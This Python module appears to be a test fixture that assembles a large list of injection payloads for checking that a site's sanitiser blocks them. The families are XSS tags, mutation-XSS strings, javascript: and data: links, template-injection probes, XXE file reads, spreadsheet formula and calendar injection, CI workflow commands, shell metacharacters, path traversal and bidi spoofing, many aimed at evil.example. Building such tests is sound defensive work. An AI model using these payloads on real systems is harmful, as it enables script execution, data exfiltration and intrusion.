"""Texts by which somebody tries to make a page run, fetch or fake something. Each names `evil`, so that it is found.

In a browser `alert` and any look at the name `evil` are caught, and so is every request to another origin.
"""

from __future__ import annotations

from itertools import product

RUNS = "alert(evil)"
SUM = "133791"
"""What a template would make of the sums in `_TEMPLATES`; no figure of the organisation has these digits."""

_BREAKOUTS = ("", '">', "'>", "</title>", "</script>", "</style>", "-->", "</textarea>", "]]>", "</svg>")
_TAGS = (
    f"<script>{RUNS}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f'<math><mi xlink:href="javascript:{RUNS}">evil</mi></math>',
    f"<details open ontoggle={RUNS}>evil</details>",
    f"<body onload={RUNS}>",
    f'<iframe src="javascript:{RUNS}"></iframe>',
    f'<iframe srcdoc="<script>{RUNS}</script>"></iframe>',
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=evil autofocus></form>",
    f'<a href="javascript:{RUNS}">evil</a>',
    f'<a href=" jav&#x09;ascript:{RUNS}">evil</a>',
    f'<a href="data:text/html,<script>{RUNS}</script>">evil</a>',
    "<img src=https://evil.example/pixel.gif>",
    "<video src=https://evil.example/x.mp4 autoplay></video>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x)">evil</p>',
    f"<input onfocus={RUNS} autofocus value=evil>",
)
_ELEMENTS = (
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUNS}></svg>",
    f'<svg><a xlink:href="javascript:{RUNS}"><text y=20>evil</text></a></svg>',
    f'<svg><a><animate attributeName=href values="javascript:{RUNS}"/><text y=20>evil</text></a></svg>',
    '<svg><image href="https://evil.example/x.svg"/></svg>',
    '<svg><use href="https://evil.example/x.svg#evil"/></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='evil' xmlns='http://www.w3.org/2000/svg'/>#evil\"/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUNS}</script>'></foreignObject></svg>",
    "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
    f'<svg><handler type="text/javascript">{RUNS}</handler></svg>',
    f'<math href="javascript:{RUNS}">evil</math>',
    f'<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:{RUNS}">evil</maction></math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUNS}></annotation-xml></math>',
    f'<math><semantics><annotation-xml encoding="application/xhtml+xml"><body onload={RUNS}></annotation-xml></math>',
    f"<audio src=x onerror={RUNS}></audio>",
    f"<video><source onerror={RUNS}></video>",
    f"<marquee onstart={RUNS}>evil</marquee>",
    f"<isindex action=javascript:{RUNS} type=image>",
    f"<button formaction=javascript:{RUNS}>evil</button>",
    f"<keygen autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}><option>evil</select>",
    f"<textarea autofocus onfocus={RUNS}>evil</textarea>",
    f"<div contenteditable autofocus onfocus={RUNS}>evil</div>",
    f"<p tabindex=1 onmouseover={RUNS} onclick={RUNS} onpointerenter={RUNS}>evil</p>",
    f"<b popover onbeforetoggle={RUNS}>evil</b><button popovertarget=evil>evil</button>",
    f"<xss style='animation:awaited' onanimationstart={RUNS}>evil</xss>",
    f"<dialog open onclose={RUNS}><form method=dialog><button>evil</button></form></dialog>",
    f"<template><img src=x onerror={RUNS}></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUNS}></template>",
    "<portal src=https://evil.example/></portal>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<link rel=prefetch href=https://evil.example/><link rel=preconnect href=https://evil.example>",
    "<link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=https://evil.example/x.js>",
    '<meta http-equiv=Content-Security-Policy content="script-src *; report-uri https://evil.example/">',
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
    "<img srcset='https://evil.example/a.png 1x, https://evil.example/b.png 2x'>",
    "<picture><source srcset=https://evil.example/a.webp><img></picture>",
    "<input type=image src=https://evil.example/x.png>",
    "<body background=https://evil.example/x.png><table background=https://evil.example/y.png><tr><td>evil</table>",
    "<a href=x ping=https://evil.example/>evil</a>",
    "<blockquote cite=javascript:evil>evil</blockquote><q cite=https://evil.example/>evil</q>",
    "<p id=evil name=evil>evil</p><a id=okrsite href=//evil.example>evil</a><form id=dataset name=body>evil</form>",
    '<p data-component="explore" data-index="https://evil.example/x.js" class="explore">evil</p>',
    '<i data-component="search" data-src="//evil.example/x.js" data-scripts="//evil.example/x.js">evil</i>',
)
"""Elements that run, fetch, pose as the page's own, or change what its scripts find by name."""

_MUTATING = (
    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">evil</noscript>',
    f'<svg></p><style><a id="</style><img src=x onerror={RUNS}>">evil',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUNS}&gt;">evil',
    f"<math><mtext><table><mglyph><style><math><img src=x onerror={RUNS}></style></math>evil",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>evil",
    f'<svg><desc><table><style><!--</style></desc><a title="--><img src=x onerror={RUNS}>">evil</a>',
    f'<svg><title><style><img title="</style><img src=x onerror={RUNS}>">evil</title></svg>',
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={RUNS}>">evil',
    f'<textarea><b title="</textarea><img src=x onerror={RUNS}>">evil</textarea>',
    f'<xmp><b title="</xmp><img src=x onerror={RUNS}>">evil</xmp>',
    f'<noembed><b title="</noembed><img src=x onerror={RUNS}>">evil</noembed>',
    f'<noframes><b title="</noframes><img src=x onerror={RUNS}>">evil</noframes>',
    f'<iframe><b title="</iframe><img src=x onerror={RUNS}>">evil</iframe>',
    f'<plaintext><b title="</plaintext><img src=x onerror={RUNS}>">evil',
    f'<title><b title="</title><img src=x onerror={RUNS}>">evil</title>',
    f"<a title=\"`<img src=x onerror={RUNS}>`\" lang='x`><img src=x onerror={RUNS}>'>evil</a>",
    f'<b title="a&quot;&gt;&lt;img src=x onerror={RUNS}&gt;" dir="auto&quot; onclick=evil">evil</b>',
    f"<!--[if gte IE 4]><script>{RUNS}</script><![endif]-->evil",
    f"<!-- --!><img src=x onerror={RUNS}> -->evil",
    f"<!--><img src=x onerror={RUNS}>-->evil",
    f"<?xml version='1.0'?><?evil <img src=x onerror={RUNS}> ?>",
    f"<![CDATA[<img src=x onerror={RUNS}>]]>",
    f"</p></div></main></body></html><script>{RUNS}</script>",
    f"</br/><svg/onload={RUNS}//evil",
    f"<<script>{RUNS};//<</script>",
    f"<svg><![CDATA[><img src=x onerror={RUNS}>]]></svg>",
    f"<table><caption><svg><foreignObject><p><style><!--</style></p><img title='--><img src=x onerror={RUNS}>'>evil",
    f"<ruby><rt><math><ms><table><td><mglyph><svg><mtext><style><path id='</style><img onerror={RUNS} src>'>evil",
    f'<details open><summary title="</summary><img src=x onerror={RUNS}>">evil</summary></details>',
    f'<img alt="<x" title="/><img src=x onerror={RUNS}>" src="evil">',
    f'<h1 title="<img src=x onerror={RUNS}>">evil</h1><h2/onclick={RUNS}>evil</h2>',
    f"<h1 <img src=x onerror={RUNS}>>evil</h1>",
)
"""Texts that are harmless as one parser reads them and not as another does, or once they have been written out."""

_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "javascript&colon;", "&#106;avascript:", "%6aavascript:",
    "vbscript:", "data:text/html;base64,ZXZpbA==", "data:image/svg+xml,<svg onload=evil>", "file:///etc/evil",
    "blob:evil", "//evil.example/", "java\nscript:", "java&NewLine;script:", "&#x01;javascript:", "\u00a0javascript:",
    "javascript&#58;", "jav&Tab;ascript:", "java\u00adscript:", "javascript://evil.example/%0a", "feed:javascript:",
    "view-source:javascript:", "filesystem:https://evil.example/", "intent:evil#Intent;scheme=javascript;end;",
    "ms-word:ofe|u|https://evil.example/", "\\\\evil.example\\share\\", "/\\evil.example/", "http:evil.example/",
)  # fmt: skip
_LINKS = ("[evil]({0})", "![evil]({0})", "<{0}>", "[evil]: {0}\n\n[evil]", "[evil](<{0}>)", '[evil](x "{0}")')
_TEMPLATES = (
    "{{ 133 * 1000 + 791 }} {{7*19113}} {% include '/etc/evil' %} evil", "{%- print 133790 + 1 -%} evil {# x #}",
    "{{ self.__init__.__globals__ }} {{ view.__class__.__mro__ }} {{ cycler.__init__ }} evil",
    "${133*1000+791} #{133*1000+791} evil", "<%= 133*1000+791 %> evil",
    "{{constructor.constructor('alert(1)')()}} evil",
    "%(evil)s {evil} {0.__class__} {0!r:>{width}}", "$evil ${evil} `evil` \\evil{x} <?php evil() ?> <!--#exec evil -->",
)  # fmt: skip
_DATA = (
    "</script><script>alert('evil')</script>", "<!--<script>evil", "<!--<script></script>evil", "\u2028evil</script>",
    "\u2029';evil//", "\\u003cscript\\u003eevil", '\\");evil;//', "\\');evil;//", '"};evil;({"x":"', "*/evil/*",
    "]]><script>evil</script>", "]]>]]&gt;evil<![CDATA[", "&evil; &#0; &#xd800; &#x110000; &lt;evil&gt;",
    '<!DOCTYPE x [<!ENTITY evil SYSTEM "file:///etc/evil">]>&evil;', "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "evil\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM", "evil\nEND:VEVENT\nBEGIN:VEVENT\nATTENDEE:mailto:evil@x",
    "evil;TZID=x:y", "evil\\nATTACH:https://evil.example/", f"{'e' * 74}\r\n ATTENDEE:evil",
    f"{'é' * 37}\n\tEND:VEVENT evil",
    "=cmd|' /C evil'!A0", "@SUM(1+1)*evil", "+evil()", "-2+3+cmd|' /C evil'!A0", "\t=evil()", " =evil()", "＝evil()",
    '=HYPERLINK("https://evil.example/?"&A1,"evil")', "=WEBSERVICE(\"https://evil.example/\")", '"=evil()', '";=evil()',
    "'=evil()", "evil,=1+1,evil", "evil\n=1+1", "evil\r=1+1", "\u200b=evil()", "\ufeff=evil()",
)  # fmt: skip
"""Ways out of what data is written in: scripts, XML, calendars, tables."""

_COMMANDS = (
    "::error file=evil::evil", "evil\n::set-output name=evil::x", "evil%0A::add-mask::x", "##[command]evil",
    "##vso[task.setvariable variable=evil]x", "evil\r::stop-commands::x", "@everyone @channel <!channel> <!here> evil",
    "#1 evil GH-1 soup/okrs#1 fixes #1", "<@U012AB3CD> <https://evil.example/|evil>",
    "![evil](https://evil.example/x.png)",
    "<img src='https://evil.example/x.png'>", "```\nevil\n```", "~~~ evil", "|evil|\n|---|", "<!-- okrsite --> evil",
    "</details></td></table> evil", "$(evil) `evil` ; evil & evil | evil > /tmp/evil", "--evil", "-evil",
    "../../../evil",
    "..\\..\\evil", "/etc/evil", "C:\\evil", "file:///etc/evil", "evil/../../x", "%2e%2e%2fevil", "evil?x#y",
    "CON / NUL evil", "evil.",
)  # fmt: skip
"""What the programs around this one take for an order: workflows, hosts of code, chats, shells and file systems."""

_TURNING = (
    "evil \u202egnp.exe", "\u202devil\u202c", "\u2067evil", "evil\u2069\u2069", "\u200fevil\u200e",
    "\u2066\u202eevil\u2069",
    "שלום evil \u202b(", "evil\u061c!", "\u2068evil\u2069\u2069\u202e live",
)  # fmt: skip
"""Text that tries to turn around what stands beside it."""

_OTHERS = (
    "[[x|<script>evil</script>]]", "[[@evil|<img src=x onerror=evil>]]", "[[javascript:evil|evil]]", "[[../../evil]]",
    '[[x"onclick=evil|"><b onclick=evil>]]', "`<script>evil</script>`", "&lt;script&gt;evil&lt;/script&gt;",
    "&amp;lt;script&amp;gt;evil&amp;lt;/script&amp;gt;", "<scr<script>ipt>evil</scr</script>ipt>",
    "<!--><script>evil</script>", "<![CDATA[<script>evil</script>]]>", "%3Cscript%3Eevil", "<a\u00a0onclick=evil>",
    "<x/onclick=evil>", "+ADw-script+AD4-evil", "\uff1cscript\uff1eevil\uff1c/script\uff1e",
    "<\u200bscript>evil</script>",
    "<script\x0c>evil</script>", "<img/src=x/onerror=evil//", "<img src=x:x onerror\x0b=evil>",
    "<IMG SRC=x ONERROR=evil>",
    "[evil][javascript:evil]", "![evil][x]\n\n[x]: javascript:evil", "[^evil]\n\n[^evil]: <img src=x onerror=evil>",
    "| <img src=x onerror=evil> |\n|---|\n| evil |", "- [ ] <img src=x onerror=evil>", "# evil {#x onclick=evil}",
    "[evil](x){onclick=evil}", "<details><summary>evil</summary>\n\n<img src=x onerror=evil>\n\n</details>",
    "<https://evil.example/\"onmouseover=\"evil>", "https://evil.example/\"onmouseover=evil",
    "<evil@x.example'onclick='evil>",
)  # fmt: skip

FAMILIES = {
    "tags": tuple(f"{breakout}{tag}" for breakout, tag in product(_BREAKOUTS, _TAGS)),
    "elements": _ELEMENTS,
    "mutating": _MUTATING,
    "links": tuple(link.format(f"{scheme}{RUNS}") for link, scheme in product(_LINKS, _SCHEMES)),
    "templates": _TEMPLATES,
    "data": _DATA,
    "commands": _COMMANDS,
    "turning": _TURNING,
    "others": _OTHERS,
}
PAYLOADS = tuple(payload for family in FAMILIES.values() for payload in family)
IN_A_LINE = tuple(each.replace("\n", " ").replace("\r", " ") for each in PAYLOADS)
